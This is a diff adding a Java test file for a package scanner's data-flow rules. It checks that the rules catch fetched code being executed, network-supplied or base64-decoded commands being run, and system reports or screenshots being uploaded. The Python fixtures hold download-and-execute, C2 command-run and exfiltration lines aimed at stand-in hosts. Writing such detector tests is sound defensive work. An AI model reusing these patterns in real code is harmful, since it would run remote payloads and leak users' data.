@@ -1,0 +1,261 @@
+package io.pkgguard.rules.content;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
+
+import java.time.Duration;
+import java.util.Arrays;
+import java.util.List;
+import java.util.Optional;
+import org.junit.jupiter.api.Nested;
+import org.junit.jupiter.api.Test;
+
+/**
+ * What the built-in flows follow: a value from where it comes from to where it goes, through
+ * names, attributes, helper functions and files, and what they must leave alone.
+ */
+class DataFlowTest {
+
+  /** The line where {@code flow}'s value reaches its sink in {@code python}, if it does. */
+  private static Optional<Integer> reached(String flow, String python) {
+    ContentPattern pattern = pattern(flow);
+    DataFlow dataFlow = DataFlow.of(PythonSource.parse(python).code(), python);
+    return dataFlow
+        .reaches(patterns(pattern.sources()), patterns(pattern.sinks()), pattern.reach().get())
+        .map(DataFlow.Statement::line);
+  }
+
+  private static ContentPattern pattern(String id) {
+    return ContentPatterns.builtIn().stream().filter(p -> p.id().equals(id)).findFirst().get();
+  }
+
+  private static List<ContentPattern> patterns(List<String> ids) {
+    return ids.stream().map(DataFlowTest::pattern).toList();
+  }
+
+  private static String lines(String... lines) {
+    return String.join("\n", Arrays.asList(lines)) + "\n";
+  }
+
+  @Nested
+  class ExecutingWhatWasFetched {
+
+    @Test
+    void followsAResponseThroughAConnectionObject() {
+      assertThat(
+              reached(
+                  "exec-fetched",
+                  lines(
+                      "import http.client",
+                      "c = http.client.HTTPSConnection('h.example')",
+                      "c.request('GET', '/x')",
+                      "exec(c.getresponse().read())")))
+          .contains(4);
+    }
+
+    @Test
+    void followsItThroughNamesAttributesAndHelperFunctions() {
+      assertThat(
+              reached(
+                  "exec-fetched",
+                  lines(
+                      "import urllib.request as u",
+                      "def fetch(url):",
+                      "    body = u.urlopen(url).read()",
+                      "    return body.decode()",
+                      "class Loader:",
+                      "    def run(self):",
+                      "        self.code = fetch('https://cdn.example/p')",
+                      "        text = self.code.strip()",
+                      "        go(text)",
+                      "def go(source):",
+                      "    exec(compile(source, '<p>', 'exec'))")))
+          .contains(9);
+    }
+
+    @Test
+    void followsADownloadIntoAFileAndTheFileIntoCtypes() {
+      assertThat(
+              reached(
+                  "exec-fetched",
+                  lines(
+                      "import ctypes, os, urllib.request",
+                      "lib = os.path.join('/tmp', '.l.so')",
+                      "with open(lib, 'wb') as f:",
+                      "    f.write(urllib.request.urlopen('https://x.example/l.so').read())",
+                      "ctypes.CDLL(lib)")))
+          .contains(5);
+      assertThat(
+              reached(
+                  "exec-fetched",
+                  lines(
+                      "from urllib.request import urlretrieve",
+                      "import runpy",
+                      "target = '/tmp/.p.py'",
+                      "urlretrieve('https://x.example/p.py', target)",
+                      "runpy.run_path(target)")))
+          .contains(5);
+    }
+
+    @Test
+    void forgetsANameAssignedAgainFromSomethingElse() {
+      assertThat(
+              reached(
+                  "exec-fetched",
+                  lines(
+                      "import requests",
+                      "code = requests.get('https://x.example').text",
+                      "code = open('local.py').read()",
+                      "exec(code)")))
+          .isEmpty();
+    }
+
+    @Test
+    void forgetsWhatAFunctionTaintedWhenTheFunctionEnds() {
+      assertThat(
+              reached(
+                  "exec-fetched",
+                  lines(
+                      "import requests",
+                      "def status():",
+                      "    body = requests.get('https://x.example').text",
+                      "    print(body)",
+                      "def render(body):",
+                      "    exec(body)")))
+          .isEmpty();
+    }
+  }
+
+  @Nested
+  class RunningCommands {
+
+    @Test
+    void aCommandFromTheNetworkIsFollowedToTheProgramPosition() {
+      assertThat(
+              reached(
+                  "runs-fetched",
+                  lines(
+                      "import json, subprocess, requests",
+                      "task = requests.get('https://c2.example/t').json()",
+                      "subprocess.run(task['cmd'], shell=True)")))
+          .contains(3);
+    }
+
+    @Test
+    void aDownloadHandedToAProgramAsAFileIsNotTheProgram() {
+      assertThat(
+              reached(
+                  "runs-fetched",
+                  lines(
+                      "import subprocess, urllib.request",
+                      "archive = '/tmp/data.tar.gz'",
+                      "urllib.request.urlretrieve('https://x.example/d.tgz', archive)",
+                      "subprocess.run(['tar', 'xzf', archive])")))
+          .isEmpty();
+    }
+
+    @Test
+    void aDecodedCommandIsFollowedThroughACipher() {
+      assertThat(
+              reached(
+                  "runs-decoded",
+                  lines(
+                      "import base64, os",
+                      "c = base64.b64decode(b'Y3VybA==').decode()",
+                      "os.system(c + ' -s x')")))
+          .contains(3);
+    }
+  }
+
+  @Nested
+  class SendingSecrets {
+
+    @Test
+    void aSystemReportIsFollowedIntoAPostBody() {
+      assertThat(
+              reached(
+                  "sends-secrets",
+                  lines(
+                      "import subprocess, urllib.parse, urllib.request",
+                      "report = subprocess.check_output('systeminfo', shell=True, text=True)",
+                      "data = urllib.parse.urlencode({'p': report}).encode()",
+                      "urllib.request.urlopen('https://paste.example/api', data=data)")))
+          .contains(4);
+    }
+
+    @Test
+    void aScreenshotToolsOutputFileIsFollowedToTheUpload() {
+      assertThat(
+              reached(
+                  "sends-secrets",
+                  lines(
+                      "import subprocess, requests",
+                      "path = '/tmp/.s.png'",
+                      "subprocess.run(['screencapture', '-x', path])",
+                      "with open(path, 'rb') as f:",
+                      "    requests.post('https://x.example/up', files={'f': f})")))
+          .contains(5);
+    }
+
+    @Test
+    void aKeywordNamedLikeASecretIsNotTheSecret() {
+      assertThat(
+              reached(
+                  "sends-secrets",
+                  lines(
+                      "import os, requests",
+                      "data = dict(os.environ)",
+                      "print(len(data))",
+                      "requests.post('https://api.example/v1', data=b'ping')")))
+          .isEmpty();
+    }
+
+    @Test
+    void wordsInCommentsAreNotSources() {
+      assertThat(
+              reached(
+                  "sends-secrets",
+                  lines(
+                      "import requests",
+                      "# never send ~/.ssh/id_rsa",
+                      "payload = {'v': 1}",
+                      "requests.post('https://api.example/v1', json=payload)")))
+          .isEmpty();
+    }
+  }
+
+  @Test
+  void hostileShapesEndQuickly() {
+    String deep = "x = " + "(".repeat(50_000) + "urlopen(u)" + ")".repeat(50_000) + "\nexec(x)\n";
+    String wide = "y = urlopen(u)\n" + "y = y + y\n".repeat(100_000) + "exec(y)\n";
+    String many = "a0 = urlopen(u)\n" + lines(manyAssignments(20_000)) + "exec(a20000)\n";
+    String oneLineLoops = "for a in x: ".repeat(5_000);
+    assertTimeoutPreemptively(
+        Duration.ofSeconds(30),
+        () -> {
+          assertThat(reached("exec-fetched", deep)).contains(2);
+          assertThat(reached("exec-fetched", wide)).contains(100_002);
+          assertThat(reached("exec-fetched", many)).contains(20_002);
+          assertThat(reached("exec-fetched", "x = urlopen(u)\nfor a in x: exec(a)\n")).contains(2);
+          assertThat(reached("exec-fetched", "x = urlopen(u)\n" + oneLineLoops + "exec(a)\n"))
+              .contains(2); // a is bound by the first header; a hundred are followed at most
+          assertThat(reached("exec-fetched", "for " + "a in ".repeat(20_000) + "\n")).isEmpty();
+          assertThat(reached("exec-fetched", "with " + "a as b, ".repeat(20_000) + "\n")).isEmpty();
+          assertThat(reached("exec-fetched", "for x in " + "(y := 1), ".repeat(10_000) + "\n"))
+              .isEmpty();
+          assertThat(reached("exec-fetched", "a = ".repeat(10_000) + "urlopen(u)\nexec(a)\n"))
+              .contains(2);
+          assertThat(reached("exec-fetched", "a = 1;".repeat(30_000) + "\n")).isEmpty();
+          assertThat(reached("exec-fetched", "")).isEmpty();
+          assertThat(reached("exec-fetched", "exec(\n")).isEmpty();
+        });
+  }
+
+  private static String[] manyAssignments(int count) {
+    String[] lines = new String[count];
+    for (int i = 1; i <= count; i++) {
+      lines[i - 1] = "a" + i + " = a" + (i - 1) + ".strip()";
+    }
+    return lines;
+  }
+}
